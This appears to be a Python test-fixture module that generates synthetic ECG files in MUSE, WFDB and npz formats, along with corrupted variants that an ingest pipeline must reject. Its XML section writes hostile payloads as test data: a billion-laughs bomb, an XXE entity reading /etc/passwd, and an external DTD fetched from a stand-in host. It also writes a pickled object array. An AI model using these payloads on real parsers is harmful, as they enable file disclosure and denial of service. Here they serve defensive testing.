"""Crafted inputs for the ingest tests: a minimal MUSE/WFDB/npz writer of a plausible 12-lead ECG and a
suite of corruptions, each with the Reason ingest must give it. Everything is generated (no binaries in
the repo) and deterministic."""
from __future__ import annotations

import base64
import io
import json
import os
import re
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parents[3]
LEADS = ("I", "II", "III", "aVR", "aVL", "aVF", "V1", "V2", "V3", "V4", "V5", "V6")
INDEPENDENT = ("I", "II", "V1", "V2", "V3", "V4", "V5", "V6")

# Identifiers injected into crafted inputs; the privacy test greps every output byte for them.
SECRET_MRN = "MRN7730021"
SECRET_FIRST = "ZEBEDIAH"
SECRET_LAST = "QUILLFEATHER"
SECRET_DOB = "03-14-1931"
SECRET_ACCESSION = "ACC99887766"
SECRET_OPERATOR = "OPERATORVANCE"
SECRET_LOCATION = "WARD 7 EAST BED 12"


def ecg(seed: int = 0, fs: int = 500, seconds: float = 10.0, scale: float = 1.0) -> np.ndarray:
    """[12, n] float64 mV: Gaussian P-QRS-T beats at 60-80 bpm, per-lead gains, small noise."""
    rng = np.random.default_rng(seed)
    n = int(fs * seconds)
    t = np.arange(n) / fs
    rr = 60.0 / rng.uniform(60, 80)
    beat = np.zeros(n)
    for onset in np.arange(0.3, seconds, rr):
        for center, width, amp in ((0.0, 0.025, 0.15), (0.16, 0.012, 1.0), (0.19, 0.012, -0.25), (0.45, 0.05, 0.3)):
            beat += amp * np.exp(-0.5 * ((t - onset - center) / width) ** 2)
    gains = {"I": 0.6, "II": 1.0, "V1": -0.7, "V2": 0.9, "V3": 1.2, "V4": 1.4, "V5": 1.1, "V6": 0.8}
    ind = {k: g * beat * scale + rng.normal(0, 0.01, n) for k, g in gains.items()}
    i, ii = ind["I"], ind["II"]
    full = {**ind, "III": ii - i, "aVR": -(i + ii) / 2, "aVL": i - ii / 2, "aVF": ii - i / 2}
    return np.stack([full[k] for k in LEADS])


def muse_bytes(signals_mv: np.ndarray, fs: int = 500, *, units_per_bit: float = 4.88, mrn: str = SECRET_MRN,
               accession: str = SECRET_ACCESSION, first: str = SECRET_FIRST, last: str = SECRET_LAST,
               dob: str = SECRET_DOB, site: str = "crafted_site", declared_fs: int | None = None,
               leads: tuple[str, ...] = INDEPENDENT, age: int = 93) -> bytes:
    """A GE MUSE RestingECG document (Rhythm waveform; measurements declare `declared_fs`)."""
    def lead_block(name: str, values: np.ndarray) -> str:
        counts = np.clip(np.rint(values * 1000.0 / units_per_bit), -32768, 32767).astype("<i2").tobytes()
        b64 = base64.b64encode(counts).decode()
        b64 = "\n".join(b64[i:i + 68] for i in range(0, len(b64), 68))
        return (f"<LeadData><LeadByteCountTotal>{len(counts)}</LeadByteCountTotal>"
                f"<LeadSampleCountTotal>{len(counts) // 2}</LeadSampleCountTotal>"
                f"<LeadAmplitudeUnitsPerBit>{units_per_bit:g}</LeadAmplitudeUnitsPerBit>"
                f"<LeadAmplitudeUnits>MICROVOLTS</LeadAmplitudeUnits><LeadID>{name}</LeadID>"
                f"<LeadSampleSize>2</LeadSampleSize><LeadDataCRC32>{zlib.crc32(counts)}</LeadDataCRC32>"
                f"<WaveFormData>\n{b64}\n</WaveFormData></LeadData>\n")

    idx = {k: i for i, k in enumerate(LEADS)}
    body = "".join(lead_block(name, signals_mv[idx[name if name in idx else "V4"]]) for name in leads)
    doc = f"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE RestingECG SYSTEM "restecg.dtd">
<RestingECG>
<PatientDemographics><PatientID>{mrn}</PatientID><PatientAge>{age}</PatientAge><AgeUnits>YEARS</AgeUnits>
<DateofBirth>{dob}</DateofBirth><Gender>FEMALE</Gender><PatientLastName>{last}</PatientLastName>
<PatientFirstName>{first}</PatientFirstName></PatientDemographics>
<TestDemographics><Site>3</Site><SiteName>{site}</SiteName><AcquisitionDevice>MAC5500</AcquisitionDevice>
<LocationName>{SECRET_LOCATION}</LocationName><AcquisitionDate>06-01-2019</AcquisitionDate>
<AcquisitionTime>10:11:12</AcquisitionTime><CartNumber>CART4411</CartNumber>
<OperatorLastName>{SECRET_OPERATOR}</OperatorLastName></TestDemographics>
<Order><AccessionNumber>{accession}</AccessionNumber><OrderNumber>ORD5566</OrderNumber></Order>
<RestingECGMeasurements><VentricularRate>70</VentricularRate><QRSDuration>92</QRSDuration>
<ECGSampleBase>{declared_fs or fs}</ECGSampleBase><ECGSampleExponent>0</ECGSampleExponent></RestingECGMeasurements>
<Diagnosis><DiagnosisStatement><StmtText>Seen by Dr {last} for {first}</StmtText></DiagnosisStatement></Diagnosis>
<Waveform><WaveformType>Rhythm</WaveformType><SampleBase>{fs}</SampleBase><SampleExponent>0</SampleExponent>
{body}</Waveform>
</RestingECG>
"""
    return doc.encode("iso-8859-1")


def write_wfdb(folder: Path, name: str, signals_mv: np.ndarray, fs: int = 500, names: list[str] | None = None,
               fmt: str = "16", comments: list[str] | None = None) -> Path:
    import wfdb

    folder.mkdir(parents=True, exist_ok=True)
    names = names or [n.upper() if n.startswith("aV") else n for n in LEADS]
    digital = np.rint(signals_mv * 1000.0).astype(np.int64).T
    wfdb.wrsamp(name, fs=fs, units=["mV"] * len(names), sig_name=names, d_signal=digital.astype(np.int32)
                if fmt != "16" else digital.astype(np.int16), fmt=[fmt] * len(names), adc_gain=[1000.0] * len(names),
                baseline=[0] * len(names), write_dir=str(folder), comments=comments or [])
    return folder / f"{name}.hea"


def npz_bytes(signals: np.ndarray, key: str = "signals") -> bytes:
    buf = io.BytesIO()
    np.savez(buf, **{key: np.asarray(signals, dtype=np.float32)})
    return buf.getvalue()


def write_npz(folder: Path, name: str, signals: np.ndarray, fs: float = 500, units: str = "mV",
              sidecar: dict | None = None, write_sidecar: bool = True) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.npz"
    path.write_bytes(npz_bytes(signals))
    if write_sidecar:
        meta = {"fs": fs, "units": units, "leads": list(LEADS), "site": "crafted_arrays", "device": "CardioSoft",
                "accession": SECRET_ACCESSION + name, "mrn": SECRET_MRN, "sex": "F", "age": 95,
                "acquisition_date": "2019-06-01", "first_name": SECRET_FIRST, "last_name": SECRET_LAST,
                **(sidecar or {})}
        path.with_suffix(".json").write_text(json.dumps(meta))
    return path


def _sub(data: bytes, pattern: bytes, repl: bytes, count: int = 1) -> bytes:
    out, n = re.subn(pattern, repl, data, count=count, flags=re.S)
    assert n, f"pattern {pattern!r} not found"
    return out


def build_bad_inputs(root: Path) -> dict[str, str]:
    """Write the corruption suite under `root`; returns {relative path: expected Reason value}."""
    root.mkdir(parents=True, exist_ok=True)
    good = muse_bytes(ecg(1))
    expected: dict[str, str] = {}

    def put(rel: str, data: bytes, reason: str) -> None:
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        expected[rel] = reason

    # ---- XML attacks and damage
    laughs = "".join(f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10))
    put("muse/billion_laughs.xml", ('<?xml version="1.0"?><!DOCTYPE RestingECG [<!ENTITY lol0 "lol">' + laughs
                                     + ']><RestingECG><PatientID>&lol9;</PatientID></RestingECG>').encode(),
        "xml_unsafe")
    put("muse/external_entity.xml", b'<?xml version="1.0"?><!DOCTYPE RestingECG [<!ENTITY xxe SYSTEM '
                                    b'"file:///etc/passwd">]><RestingECG><Site>&xxe;</Site></RestingECG>', "xml_unsafe")
    put("muse/external_param_entity.xml", b'<?xml version="1.0"?><!DOCTYPE RestingECG [<!ENTITY % remote SYSTEM '
                                          b'"http://example.invalid/evil.dtd"> %remote;]><RestingECG/>', "xml_unsafe")
    put("muse/quadratic_blowup.xml", ('<?xml version="1.0"?><!DOCTYPE RestingECG [<!ENTITY a "' + "x" * 50000
                                      + '">]><RestingECG>' + "&a;" * 5000 + "</RestingECG>").encode(), "xml_unsafe")
    put("muse/truncated_half.xml", good[: len(good) // 2], "truncated")
    put("muse/truncated_in_tag.xml", good[: good.index(b"<WaveformType>") + 5], "truncated")
    put("muse/empty.xml", b"", "unreadable")
    put("muse/whitespace.xml", b"   \n\t  \n", "unreadable")
    put("muse/binary_garbage.xml", bytes(np.random.default_rng(3).integers(1, 256, 4000, dtype=np.uint8)),
        "unreadable")
    put("muse/mismatched_tags.xml", _sub(good, rb"</TestDemographics>", b"</TestDemographicz>"), "malformed")
    put("muse/not_muse_root.xml", b'<?xml version="1.0"?><AnnotatedECG xmlns="urn:hl7-org:v3"/>', "unsupported")
    put("muse/no_rhythm.xml", _sub(good, rb"<WaveformType>Rhythm", b"<WaveformType>Other"), "no_waveform")
    put("muse/bad_base64.xml", _sub(good, rb"(<WaveFormData>\n)(....)", rb"\1!!@@"), "bad_base64")
    put("muse/short_base64.xml", _sub(good, rb"(<WaveFormData>\n)(....)", rb"\1"), "byte_count_mismatch")
    put("muse/byte_count.xml", _sub(good, rb"<LeadByteCountTotal>\d+", b"<LeadByteCountTotal>1234"),
        "byte_count_mismatch")
    put("muse/sample_count.xml", _sub(good, rb"<LeadSampleCountTotal>\d+", b"<LeadSampleCountTotal>17"),
        "byte_count_mismatch")
    put("muse/crc.xml", _sub(good, rb"<LeadDataCRC32>\d+", b"<LeadDataCRC32>12345"), "crc_mismatch")
    put("muse/crc_text.xml", _sub(good, rb"<LeadDataCRC32>\d+", b"<LeadDataCRC32>abc"), "malformed")
    put("muse/missing_lead.xml", muse_bytes(ecg(1), leads=("I", "II", "V1", "V2", "V3", "V5", "V6")), "missing_lead")
    put("muse/duplicate_lead.xml", muse_bytes(ecg(1), leads=("I", "II", "V1", "V2", "V3", "V3", "V5", "V6")),
        "duplicate_lead")
    put("muse/gain_488.xml", _sub(good, rb"<LeadAmplitudeUnitsPerBit>4.88", b"<LeadAmplitudeUnitsPerBit>488", 8),
        "implausible_amplitude")
    put("muse/gain_off_4x.xml", muse_bytes(ecg(1) * 4.88), "implausible_amplitude")
    put("muse/rate_5hz.xml", muse_bytes(ecg(1), fs=5, declared_fs=5), "implausible_rate")
    put("muse/rate_contradiction.xml", muse_bytes(ecg(1), fs=250, declared_fs=500), "rate_mismatch")
    put("muse/rate_text.xml", _sub(good, rb"<SampleBase>500", b"<SampleBase>fast"), "malformed")
    put("muse/too_short.xml", muse_bytes(ecg(1, seconds=3.0)), "too_short")
    clipped = ecg(2)
    clipped[:] = np.clip(clipped, -0.3, 0.3)
    put("muse/clipped.xml", muse_bytes(clipped), "clipping")
    flat = ecg(3)
    flat[LEADS.index("V2")] = 0.0
    put("muse/flat_v2.xml", muse_bytes(flat), "flat_line")
    put("muse/zz_duplicate_copy.xml", good, "duplicate_recording")  # same waveform as muse/good.xml (sorted first)
    put("muse/good.xml", good, "")

    # ---- WFDB
    wf = root / "wfdb"
    base = ecg(4)
    write_wfdb(wf, "good", base)
    expected["wfdb/good.hea"] = ""
    h = write_wfdb(wf, "truncated", ecg(5))
    dat = h.with_suffix(".dat")
    dat.write_bytes(dat.read_bytes()[:1001])
    expected["wfdb/truncated.hea"] = "truncated"
    h = write_wfdb(wf, "extra_bytes", ecg(6))
    h.with_suffix(".dat").write_bytes(h.with_suffix(".dat").read_bytes() + b"\x00" * 240)
    expected["wfdb/extra_bytes.hea"] = "byte_count_mismatch"
    h = write_wfdb(wf, "missing_dat", ecg(7))
    h.with_suffix(".dat").unlink()
    expected["wfdb/missing_dat.hea"] = "unreadable"
    h = write_wfdb(wf, "checksum", ecg(8))
    lines = h.read_text().splitlines()
    parts = lines[1].split()
    parts[6] = str((int(parts[6]) + 7) % 65536)
    lines[1] = " ".join(parts)
    h.write_text("\n".join(lines) + "\n")
    expected["wfdb/checksum.hea"] = "crc_mismatch"
    (wf / "garbage_header.hea").write_text("this is not a header at all\n")
    expected["wfdb/garbage_header.hea"] = "malformed"
    h = write_wfdb(wf, "rate_zero", ecg(9))
    h.write_text(re.sub(r"^(rate_zero 12) 500", r"\1 0.5", h.read_text()))
    expected["wfdb/rate_zero.hea"] = "implausible_rate"
    names = [n.upper() if n.startswith("aV") else n for n in LEADS]
    write_wfdb(wf, "lead_renamed", ecg(10), names=names[:9] + ["X"] + names[10:])
    expected["wfdb/lead_renamed.hea"] = "missing_lead"
    h = write_wfdb(wf, "lead_twice", ecg(11))  # wfdb.wrsamp refuses duplicate names: edit the header
    h.write_text(re.sub(r" V4$", " V3", h.read_text(), flags=re.M))
    expected["wfdb/lead_twice.hea"] = "duplicate_lead"
    h = write_wfdb(wf, "wrong_gain", ecg(12))
    h.write_text(re.sub(r" 1000(\.0)?(\(0\))?/mV", " 204.9(0)/mV", h.read_text()))
    expected["wfdb/wrong_gain.hea"] = "implausible_amplitude"
    h = write_wfdb(wf, "units_degc", ecg(13))
    h.write_text(h.read_text().replace("/mV", "/degC"))
    expected["wfdb/units_degc.hea"] = "unsupported"
    h = write_wfdb(wf, "orphan", ecg(14))
    h.unlink()
    expected["wfdb/orphan.dat"] = "unreadable"
    # accepted variants: Frank leads beside the 12 (dropped), format 212 (wfdb.rdrecord path)
    frank = np.concatenate([ecg(15), ecg(16)[:3]])
    write_wfdb(wf, "frank15", frank, names=names + ["vx", "vy", "vz"])
    expected["wfdb/frank15.hea"] = ""
    write_wfdb(wf, "fmt212", ecg(17), fmt="212")
    expected["wfdb/fmt212.hea"] = ""

    # ---- arrays
    ar = root / "arrays"
    write_npz(ar, "good", ecg(20))
    expected["arrays/good.npz"] = ""
    x = ecg(21)
    x[6, 100:200] = np.nan
    write_npz(ar, "nan", x)
    expected["arrays/nan.npz"] = "nan_or_inf"
    x = ecg(22)
    x[0, 50] = np.inf
    write_npz(ar, "inf", x)
    expected["arrays/inf.npz"] = "nan_or_inf"
    x = ecg(23)
    x[5] = 0.2
    write_npz(ar, "flat_avf", x)
    expected["arrays/flat_avf.npz"] = "flat_line"
    write_npz(ar, "clipped", np.clip(ecg(24), -0.25, 0.25))
    expected["arrays/clipped.npz"] = "clipping"
    write_npz(ar, "short", ecg(25, seconds=2.0))
    expected["arrays/short.npz"] = "too_short"
    write_npz(ar, "uv_as_mv", ecg(26) * 1000.0, units="mV")
    expected["arrays/uv_as_mv.npz"] = "implausible_amplitude"
    write_npz(ar, "rate_huge", ecg(27), fs=20000)
    expected["arrays/rate_huge.npz"] = "implausible_rate"
    write_npz(ar, "eleven_leads", ecg(28)[:11], sidecar={"leads": list(LEADS[:11])})
    expected["arrays/eleven_leads.npz"] = "missing_lead"
    write_npz(ar, "no_sidecar", ecg(29), write_sidecar=False)
    expected["arrays/no_sidecar.npz"] = "malformed"
    p = write_npz(ar, "bad_sidecar", ecg(30))
    p.with_suffix(".json").write_text("{not json")
    expected["arrays/bad_sidecar.npz"] = "malformed"
    buf = io.BytesIO()
    np.save(buf, np.array([{"evil": 1}], dtype=object), allow_pickle=True)
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("signals.npy", buf.getvalue())
    (ar / "pickled.npz").write_bytes(zbuf.getvalue())
    (ar / "pickled.json").write_text(json.dumps({"fs": 500}))
    expected["arrays/pickled.npz"] = "malformed"
    data = npz_bytes(ecg(31))
    (ar / "truncated.npz").write_bytes(data[: len(data) // 2])
    (ar / "truncated.json").write_text(json.dumps({"fs": 500}))
    expected["arrays/truncated.npz"] = "truncated"
    npy = io.BytesIO()
    np.save(npy, ecg(32).astype(np.float32))
    (ar / "truncated.npy").write_bytes(npy.getvalue()[:5000])
    expected["arrays/truncated.npy"] = "truncated"
    (ar / "v73.mat").write_bytes(b"MATLAB 7.3 MAT-file, Platform: GLNXA64, Created on: x HDF5 schema 1.00 ."
                                 + b" " * 60 + b"\x00" * 512)
    expected["arrays/v73.mat"] = "unsupported"
    (ar / "garbage.mat").write_bytes(b"MATLAB 5.0 MAT-file, Platform: x" + b" " * 84 + b"\x00\x01IM" + b"\xff" * 300)
    (ar / "garbage.json").write_text(json.dumps({"fs": 500}))
    expected["arrays/garbage.mat"] = "malformed"
    return expected


def run_synth(out: Path, n: int = 40, seed: int = 5, broken: float = 0.25) -> Path:
    """`heartbeit synth` through its CLI (the contract ingest reads)."""
    env = dict(os.environ, OMP_NUM_THREADS="1")
    proc = subprocess.run([sys.executable, "-m", "heartbeit", "synth", "--out", str(out), "--n", str(n), "--seed",
                           str(seed), "--set", f"synth.broken_fraction={broken}", "--workers", "1", "--no-progress"],
                          capture_output=True, text=True, cwd=ROOT, env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return out
